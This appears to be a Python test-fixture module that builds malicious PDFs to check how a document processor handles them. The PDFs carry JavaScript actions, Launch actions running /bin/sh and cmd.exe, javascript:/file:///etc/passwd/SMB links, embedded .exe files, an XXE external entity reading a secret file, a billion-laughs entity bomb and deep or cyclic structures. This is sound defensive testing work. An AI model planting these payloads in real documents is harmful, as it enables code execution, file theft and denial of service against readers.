"""PDFs that would act, ask or fetch, and PDFs whose outlines, tags and fonts lead nowhere."""

from __future__ import annotations

from corpus import TOO_MUCH, attached
from pdf_parts import BOX, QUARTERS, one_page, packed, quarters_form, stream

SIGHT = {"pages": 1, "upright": True}
ODD = {**SIGHT, "refused": ("MK-Z10",)}


def link(action: str) -> str:
    return f"<< /Type /Annot /Subtype /Link /Rect [9 9 99 99] /Border [0 0 1] /A << {action} >> >>"


# --- what acts -------------------------------------------------------------------------------------


@attached(".pdf", **SIGHT)
def scripts_wherever_one_can_be(bait):
    code = f"/S /JavaScript /JS (app.launchURL\\('{bait.url}/js', true\\); this.submitForm\\('{bait.url}'\\))"
    return one_page(
        f"<< {code} >>",
        link(code),
        "<< /Subtype /Widget /FT /Tx /T (pole) /V (x) /Rect [9 9 99 99] /AA << /K 6 0 R /C 6 0 R >> >>",
        page=f"{BOX} /AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R 8 0 R]",
        catalogue="/OpenAction 6 0 R /AA << /WC 6 0 R /DP 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
        " /AcroForm << /Fields [8 0 R] /CO [8 0 R] >> /Outlines << /First 6 0 R >>",
    )


@attached(".pdf", **SIGHT)
def programs_to_be_started(bait):
    return one_page(
        link(f"/S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'touch {bait.trace}') >>"),
        link("/S /Launch /Win << /F (cmd.exe) /P (/c calc) /O (open) >> /NewWindow true"),
        page=f"{BOX} /Annots [6 0 R 7 0 R]",
        catalogue="/OpenAction << /S /Launch /F (calc.exe) /Next << /S /Named /N /Print >> >>",
    )


@attached(".pdf", **SIGHT)
def links_of_odd_schemes(bait):
    addresses = (
        "javascript:alert\\(1\\)",
        "file:///etc/passwd",
        "\\\\\\\\127.0.0.1\\\\share\\\\a",
        "smb://127.0.0.1/a",
        "data:text/html,<script>1</script>",
        "vbscript:x",
        "JaVaScRiPt:alert\\(1\\)",
        " javascript:x",
        "ms-word:ofe|u|http://127.0.0.1/",
        "",
        "\x00http://x",
    )
    links = [link(f"/S /URI /URI ({address})") for address in addresses]
    far = [
        link("/S /GoToR /F (//127.0.0.1/a.pdf) /D [0 /Fit]"),
        link("/S /GoToE /D [0 /Fit] /T << /R /C /N (a) >>"),
        link(f"/S /SubmitForm /F << /FS /URL /F ({bait.url}) >>"),
        link(f"/S /ImportData /F ({bait.url}/a.fdf)"),
        link("/S /Hide /T (x)"),
    ]
    numbers = " ".join(f"{number} 0 R" for number in range(6, 6 + len(links) + len(far)))
    return one_page(*links, *far, page=f"{BOX} /Annots [{numbers}]")


@attached(".pdf", **SIGHT)
def files_inside(bait):
    return one_page(
        stream(b"MZ" + bytes(300), "/Type /EmbeddedFile"),
        "<< /Type /Filespec /F (faktura.exe) /EF << /F 6 0 R >> /AFRelationship /Data >>",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [9 9 29 29] /FS 7 0 R >>",
        page=f"{BOX} /Annots [8 0 R] /AF [7 0 R]",
        catalogue="/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >> /AF [7 0 R] /Collection << /View /T >>",
    )


@attached(".pdf", **SIGHT)
def films_sounds_and_models(bait):
    media = (
        f"<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ({bait.url}/film.avi) >> /A true >>",
        "<< /Subtype /Sound /Rect [0 0 9 9] /Sound 4 0 R >>",
        "<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>",
        "<< /Subtype /3D /Rect [0 0 9 9] /3DD 4 0 R >>",
        f"<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D ({bait.url}) >> >> >> >>",
    )
    return one_page(*media, page=f"{BOX} /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]")


@attached(".pdf", pages=1, refused=("MK-Z10", "MK-Z17"))
def content_that_lies_in_another_file(bait):
    outside = f"<< /Length 0 /F << /FS /URL /F ({bait.url}/content) >> >>\nstream\n\nendstream"
    inside = f"<< /Length 0 /F ({bait.secret}) /FFilter [] /Subtype /Image /Width 9 /Height 9 >>\nstream\n\nendstream"
    return one_page(
        outside, inside, page=f"{BOX} /Contents [6 0 R]", content=outside, resources="/XObject << /I 7 0 R >>"
    )


@attached(".pdf", **SIGHT)
def a_drawing_that_stands_for_another_file(bait):
    form = quarters_form(
        f"/Ref << /F << /FS /URL /F ({bait.url}/ref.pdf) >> /Page 0 >> /OPI << /2.0 << >> >>"
    )
    return one_page(form, content="/X Do", resources="/XObject << /X 6 0 R >>")


# --- forms -----------------------------------------------------------------------------------------


@attached(".pdf", refused="MK-Z13")
def a_form_of_xfa_alone(bait):
    return one_page(stream("<xdp/>"), catalogue="/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>")


@attached(".pdf", refused="MK-Z13")
def a_form_that_asks_to_wait(bait):
    content = "BT /F1 20 Tf 20 200 Td (Please wait... ) Tj ET"
    field = "<< /T (a) /FT /Tx >>"
    return one_page(field, content=content, catalogue="/AcroForm << /Fields [6 0 R] /XFA [(a) (b)] >>")


@attached(".pdf", **SIGHT)
def a_form_of_both_kinds(bait):
    field = "<< /T (a) /FT /Tx /V (b) /Subtype /Widget /Rect [9 9 99 29] >>"
    return one_page(
        field,
        stream("<xdp/>"),
        page=f"{BOX} /Annots [6 0 R]",
        catalogue="/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>",
    )


@attached(".pdf", **ODD)
def fields_in_a_ring(bait):
    return one_page(
        "<< /T (a) /Parent 7 0 R /Kids [7 0 R] /Subtype /Widget /Rect [9 9 9 9] >>",
        "<< /T (b) /Parent 6 0 R /Kids [6 0 R] >>",
        page=f"{BOX} /Annots [6 0 R 6 0 R]",
        catalogue="/AcroForm << /Fields [6 0 R 7 0 R] >>",
    )


# --- outlines, names, labels -------------------------------------------------------------------------


@attached(".pdf", **SIGHT)
def an_outline_in_a_ring(bait):
    return one_page(
        "<< /First 7 0 R /Last 7 0 R /Count 9 >>",
        "<< /Title (A) /Parent 6 0 R /First 7 0 R /Next 8 0 R /Dest [3 0 R /Fit] >>",
        "<< /Title (B) /Parent 7 0 R /First 6 0 R /Next 7 0 R /Prev 8 0 R /A 8 0 R >>",
        catalogue="/Outlines 6 0 R",
    )


@attached(".pdf", **SIGHT)
def an_outline_of_30000_entries(bait):
    entries = [
        f"<< /Title (Wpis) /Parent 6 0 R /Dest [3 0 R /Fit] {f'/Next {n + 1} 0 R' if n < 30_006 else ''} >>"
        for n in range(7, 30_007)
    ]
    return one_page("<< /First 7 0 R /Last 30006 0 R /Count 30000 >>", *entries, catalogue="/Outlines 6 0 R")


@attached(".pdf", **SIGHT)
def an_outline_of_5000_levels(bait):
    entries = [
        f"<< /Title (Wpis) /Parent {n - 1} 0 R /Dest [3 0 R /Fit] {f'/First {n + 1} 0 R' if n < 5006 else ''} >>"
        for n in range(7, 5007)
    ]
    return one_page("<< /First 7 0 R /Last 7 0 R >>", *entries, catalogue="/Outlines 6 0 R")


@attached(".pdf", **SIGHT)
def names_and_labels_in_a_ring(bait):
    ring = "<< /Kids [6 0 R] /Limits [(a) (z)] >>"
    return one_page(
        ring,
        link("/S /GoTo /D (m)"),
        "[(m) 8 0 R]",
        page=f"{BOX} /Annots [7 0 R]",
        catalogue="/Names << /Dests 6 0 R >> /PageLabels 6 0 R /Dests << /m /m /n 8 0 R >>",
    )


@attached(".pdf", **SIGHT)
def a_thread_of_articles_in_a_ring(bait):
    return one_page(
        "<< /N 6 0 R /V 6 0 R /P 3 0 R /T 6 0 R >>", page=f"{BOX} /B [6 0 R]", catalogue="/Threads [6 0 R]"
    )


# --- tags ------------------------------------------------------------------------------------------

TAGGED = "/MarkInfo << /Marked true >> /Lang (pl) /StructTreeRoot 6 0 R"


def tagged(*more: str, content: str = "", page: str = "/StructParents 0") -> bytes:
    marked = content or f"/Figure << /MCID 0 >> BDC {QUARTERS.decode()} EMC"
    return one_page(*more, content=marked, page=f"{BOX} {page}", catalogue=TAGGED)


@attached(".pdf", **SIGHT)
def tags_in_a_ring(bait):
    return tagged(
        "<< /Type /StructTreeRoot /K 7 0 R /ParentTree << /Nums [0 [7 0 R]] >> >>",
        "<< /S /Figure /P 8 0 R /K [8 0 R 0] /Pg 3 0 R /Alt (x) >>",
        "<< /S /Sect /P 7 0 R /K [7 0 R 8 0 R 6 0 R] >>",
    )


@attached(".pdf", **SIGHT)
def tags_of_5000_levels(bait):
    levels = [f"<< /S /Sect /P {n - 1} 0 R /K [{n + 1} 0 R] >>" for n in range(7, 5007)]
    leaf = "<< /S /Figure /P 5006 0 R /K 0 /Pg 3 0 R /Alt (x) >>"
    root = "<< /Type /StructTreeRoot /K 7 0 R /ParentTree << /Nums [0 [5007 0 R]] >> >>"
    return tagged(root, *levels, leaf)


@attached(".pdf", **SIGHT)
def numbers_of_tags_without_end(bait):
    number = 1_000_000_000
    return tagged(
        f"<< /Type /StructTreeRoot /K 7 0 R /ParentTreeNextKey {number} /ParentTree << /Nums [{number} [7 0 R]] >> >>",
        f"<< /S /Figure /P 6 0 R /K [{number} -1 99999999999999999999] /Pg 3 0 R /Alt (x) >>",
        content=f"/Figure << /MCID {number} >> BDC {QUARTERS.decode()} EMC",
        page=f"/StructParents {number}",
    )


@attached(".pdf", **SIGHT)
def a_list_of_owners_in_a_ring(bait):
    return tagged(
        "<< /Type /StructTreeRoot /K 7 0 R /ParentTree 8 0 R /IDTree 8 0 R /RoleMap << /A /B /B /A >> >>",
        "<< /S /A /P 6 0 R /K 0 /Pg 3 0 R /Alt (x) >>",
        "<< /Kids [8 0 R 9 0 R] >>",
        "<< /Kids [8 0 R] /Limits [0 1000000000] >>",
    )


@attached(".pdf", **SIGHT)
def tags_that_are_no_tags(bait):
    return tagged(
        "<< /Type /StructTreeRoot /K [(a) 1 null [7 0 R] 99 0 R 7 0 R] /ParentTree [1 2 3] /RoleMap (x) >>",
        "<< /S (Figure) /P (x) /K << /Type /MCR /MCID (x) /Pg 1 0 R >> /A [[[]]] /Alt 7 /Lang [] >>",
    )


@attached(".pdf", **SIGHT)
def a_tag_of_100000_marks(bait):
    marks = " ".join(f"/Span << /MCID {number} >> BDC EMC" for number in range(1, 100_000))
    numbers = " ".join(map(str, range(100_000)))
    owners = "7 0 R " * 100_000
    return tagged(
        f"<< /Type /StructTreeRoot /K 7 0 R /ParentTree << /Nums [0 [{owners}]] >> >>",
        f"<< /S /Figure /P 6 0 R /K [{numbers}] /Pg 3 0 R /Alt (x) >>",
        content=f"/Figure << /MCID 0 >> BDC {QUARTERS.decode()} EMC {marks}",
    )


# --- fonts, layers, metadata -------------------------------------------------------------------------

WORDS = "0 g BT /G 20 Tf 20 20 Td (Tekst) Tj ET"


def lettered(font: str, *more: str | bytes) -> bytes:
    return one_page(font, *more, content=QUARTERS + WORDS.encode(), resources="/Font << /G 6 0 R >>").replace(
        b"/Font << /F1 5 0 R >>", b""
    )


def described(entries: str) -> str:
    return f"<< /Type /Font /Subtype /TrueType /BaseFont /Obcy /FontDescriptor 7 0 R {entries} >>"


DESCRIPTOR = "<< /Type /FontDescriptor /FontName /Obcy /Flags 32 /FontBBox [0 0 1 1] /FontFile2 8 0 R >>"


@attached(".pdf", **SIGHT)
def a_font_of_rubbish(bait):
    return lettered(
        described("/FirstChar 0 /LastChar 255 /Widths [1]"),
        DESCRIPTOR,
        stream(b"\x00\x01\x00\x00" + b"\xff" * 999),
    )


@attached(".pdf", **SIGHT)
def a_font_that_is_missing(bait):
    return lettered(
        described("/FirstChar -5 /LastChar 2000000000 /Widths 99 0 R"), DESCRIPTOR.replace("8 0 R", "98 0 R")
    )


@attached(".pdf", **SIGHT, refused=TOO_MUCH)
def meanings_of_letters_without_end(bait):
    meanings = (
        "1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n"
        "1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\n1 begincidrange <0000> <FFFFFFFF> 0 endcidrange"
    )
    return lettered(described("/ToUnicode 9 0 R"), DESCRIPTOR, stream(b""), stream(meanings))


@attached(".pdf", **ODD)
def a_font_whose_letters_are_written_in_itself(bait):
    font = (
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 84 /LastChar 84"
        " /Widths [1] /Encoding << /Differences [84 /T] >> /CharProcs << /T 7 0 R >> /Resources << /Font << /G 6 0 R >> >> >>"
    )
    return lettered(font, stream("1 0 d0 BT /G 1 Tf (TTTT) Tj ET 0 0 1 1 re f"))


@attached(".pdf", **SIGHT)
def layers_in_a_ring(bait):
    return one_page(
        "<< /Type /OCMD /OCGs [6 0 R] /VE [/And 7 0 R] >>",
        "[/Or 7 0 R 6 0 R]",
        content=f"/OC /L BDC {QUARTERS.decode()} EMC",
        resources="/Properties << /L 6 0 R >>",
        catalogue="/OCProperties << /OCGs [6 0 R] /D << /Order [7 0 R] /ON [6 0 R] >> >>",
    )


@attached(".pdf", **SIGHT)
def metadata_that_multiply(bait):
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    xmp = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{entities}<!ENTITY f SYSTEM "{bait.secret.as_uri()}">]><x>&l11;&f;</x>'
    return one_page(
        stream(xmp, "/Type /Metadata /Subtype /XML"),
        stream(b"\x00" * 200, "/N 3"),
        catalogue="/Metadata 6 0 R /OutputIntents [<< /S /GTS_PDFA1 /OutputConditionIdentifier (x) /DestOutputProfile 7 0 R >>]",
    )


@attached(".pdf", **SIGHT, refused=TOO_MUCH)
def colours_of_rubbish(bait):
    return one_page(
        packed(bytes(1000), "/N 4"),
        content=b"/C cs 0 0 0 0 sc 0 0 1 1 re f " + QUARTERS,
        resources="/ColorSpace << /C [/ICCBased 6 0 R] /D [/Indexed /D 2000000000 (x)] /E [/Separation /a /E 9 0 R] >>",
    )
